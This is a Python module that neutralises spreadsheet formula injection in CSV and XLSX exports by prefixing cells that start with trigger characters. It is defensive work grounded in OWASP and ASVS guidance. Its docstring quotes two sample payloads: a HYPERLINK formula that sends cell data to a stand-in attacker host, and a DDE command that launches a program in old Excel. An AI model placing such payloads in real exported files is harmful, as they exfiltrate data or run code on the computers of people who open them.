"""What a file meant for a spreadsheet (CSV, XLSX) may put in a cell.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab, carriage return or NUL, which
some spreadsheets skip before reading one of those) is run as a formula when the file is opened:
a product named `=HYPERLINK("https://evil.example/?"&A2;"Ouvrir")` would send the
neighbouring cells away at a vérificateur's click, `+cmd|' /C calc'!A0` runs a program on
old Excel. OWASP's guidance (CSV Injection) and ASVS 5.0 V1.2.10: prefix such a text with
a single quote, which every spreadsheet shows as text. Numbers we compute are written as
numbers and left alone, so that a negative count stays a number.

`cell` is applied to every cell of every export, one call each (no parsing, no regex: the
queue export writes 100,000 rows)."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_TRIGGERS = frozenset("=+-@\t\r\x00")  # OWASP's list, and ASVS's NUL


def cell(value: Any) -> Any:
    """`value`, with a text that a spreadsheet would read as a formula made inert."""
    if isinstance(value, str) and value[:1] in FORMULA_TRIGGERS:
        return "'" + str(value)
    return value


def row(values: Iterable[Any]) -> Iterator[Any]:
    """Every cell of a row through `cell` (for csv.writer.writerow)."""
    return map(cell, values)
